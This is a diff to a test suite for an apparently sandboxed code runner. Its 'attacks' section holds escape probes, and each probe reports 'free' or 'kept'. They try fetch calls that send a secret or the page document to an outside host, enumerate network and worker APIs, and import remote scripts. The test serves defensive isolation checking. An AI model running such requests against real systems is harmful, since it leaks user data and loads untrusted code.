@@ -63,7 +63,7 @@ export const behaviour = {
 
   'a Seq that was not run shows its plan': async (it) => {
     await it.open(`${SEQ}Seq.range(0).map((n) => n);\n`);
-    equal(await it.notes(), ['→ Seq { range(0, ∞) ▸ map } · a plan until something asks for its elements']);
+    equal(await it.notes(), ['→ Seq { range(0) ▸ map } · a plan until something asks for its elements']);
   },
 
   'console.log stands beside its line and in the output': async (it) => {
@@ -182,14 +182,14 @@ export const behaviour = {
 
 /** Programs of strangers: each tries something, and says `free` if it worked. */
 export const attacks = {
-  'a request': `try { await fetch('https://example.com/?' + document); console.log('free'); } catch { console.log('kept'); }`,
+  'a request': `try { await fetch('OUTSIDE?secret'); console.log('free'); } catch { console.log('kept'); }`,
   'a request by another way': `
 const ways = ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'WebTransport', 'Worker', 'SharedWorker', 'importScripts',
   'BroadcastChannel', 'indexedDB', 'caches', 'navigator', 'postMessage', 'close'];
 const there = ways.filter((name) => (globalThis as any)[name] !== undefined);
 console.log(there.length === 0 ? 'kept' : 'free ' + there);`,
   'a script from elsewhere': `
-try { await new Function('return import("https://example.com/x.js")')(); console.log('free'); } catch { console.log('kept'); }`,
+try { await new Function('return import("OUTSIDEx.js")')(); console.log('free'); } catch { console.log('kept'); }`,
   'a script as data': `
 try { await new Function('return import("data:text/javascript,export default 1")')(); console.log('free'); } catch { console.log('kept'); }`,
   'the classes behind the doors': `
